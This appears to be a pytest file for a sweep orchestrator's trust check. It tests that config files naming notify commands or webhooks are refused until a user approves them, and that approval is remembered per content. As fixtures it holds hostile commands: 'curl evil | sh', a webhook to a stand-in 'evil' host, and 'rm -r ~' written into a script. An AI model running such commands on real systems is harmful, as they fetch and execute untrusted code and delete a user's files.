"""A sweep file that would run or post something new here does so only once its user has said yes."""

from __future__ import annotations

import os
import pty
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from orchestrator.errors import UsageError
from orchestrator.sweep.grid import Sweep
from orchestrator.sweepfile import trust

REST = "name: a\nnetworks: [{n: 1, c: 2}]\ndatasets: [digits]\nmethods: {ann: {}}\n"
ORCHESTRATE = str(Path(sys.executable).with_name("orchestrate"))
Load = Callable[[str], Sweep]


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture
def loaded(load_text: Load) -> Load:
    return lambda notify: load_text(f"{REST}notify: {notify}\n")


def checked(sweep: Sweep, *, given: bool = False, ask: trust.Ask | None = None) -> None:
    trust.policy.given, trust.policy.ask = given, ask
    try:
        trust.check(sweep)
    finally:
        trust.policy.given, trust.policy.ask = False, None


def refused(sweep: Sweep, ask: trust.Ask | None = None) -> str:
    with pytest.raises(UsageError) as error:
        checked(sweep, ask=ask)
    return str(error.value)


def test_a_file_that_only_trains_needs_no_trust(load_text: Load) -> None:
    checked(load_text(REST))


def test_what_a_file_would_do_is_said_and_nothing_goes_on_without_a_yes(loaded: Load) -> None:
    sweep = loaded("{command: [sh, -c, 'curl evil | sh'], webhook: 'https://evil/x'}")
    said = refused(sweep)
    assert f"{sweep.path} would run sh -c 'curl evil | sh' and post to https://evil/x when" in said
    assert "--trust" in said
    assert refused(sweep, lambda question: False) == said
    assert refused(sweep) == said


@pytest.mark.parametrize(("given", "ask"), [(True, None), (False, lambda question: "new here" in question)])
def test_a_yes_is_remembered_for_the_same_content_by_any_name(
    loaded: Load, load_text: Load, home: Path, given: bool, ask: trust.Ask | None
) -> None:
    checked(loaded("{command: [mail-me]}"), given=given, ask=ask)
    checked(loaded("{command: [mail-me]}"))
    checked(load_text(f"{REST}seeds: [1, 2]\nnotify: {{command: [mail-me]}}\n"))
    refused(loaded("{command: [mail-me, now]}"))
    refused(loaded("{command: [mail-me], webhook: $HOOK}"))
    (kept,) = home.rglob("trusted")
    assert kept.stat().st_mode & 0o777 == 0o600
    kept.unlink()
    refused(loaded("{command: [mail-me]}"))


def test_a_script_that_has_changed_is_new(loaded: Load, home: Path) -> None:
    for command in ("[sh, script.sh]", "[./script.sh]"):
        (home / "script.sh").write_text("echo done")
        checked(loaded(f"{{command: {command}}}"), given=True)
        checked(loaded(f"{{command: {command}}}"))
        (home / "script.sh").write_text("rm -r ~")
        refused(loaded(f"{{command: {command}}}"))


@pytest.fixture
def hostile(home: Path) -> Path:
    path = home / "hostile.yaml"
    path.write_text(f"{REST}notify: {{command: [touch, {home / 'harm'}]}}\n")
    return path


def test_a_sweep_of_somebody_elses_file_runs_nothing_and_says_why(hostile: Path, home: Path) -> None:
    def run(command: str) -> subprocess.CompletedProcess[str]:
        words = [ORCHESTRATE, command, hostile.name]
        return subprocess.run(words, cwd=home, capture_output=True, text=True, check=False)

    done = run("sweep")
    assert done.returncode == 2
    assert f"error: hostile.yaml would run touch {home / 'harm'} when the sweep ends" in done.stderr
    for command in ("plan", "status", "report"):
        assert run(command).returncode == 0
    assert not (home / "harm").exists()
    assert not (home / "runs").exists()


def test_at_a_terminal_the_user_is_asked(hostile: Path, home: Path) -> None:
    ours, theirs = pty.openpty()
    os.write(ours, b"n\n")
    done = subprocess.run(
        [ORCHESTRATE, "sweep", hostile.name], cwd=home, stdin=theirs, capture_output=True, text=True, check=False
    )
    os.close(ours)
    os.close(theirs)
    assert done.returncode == 2
    assert "Go on, and trust it from now on? [y/N]" in done.stderr + done.stdout
    assert not (home / "runs").exists()
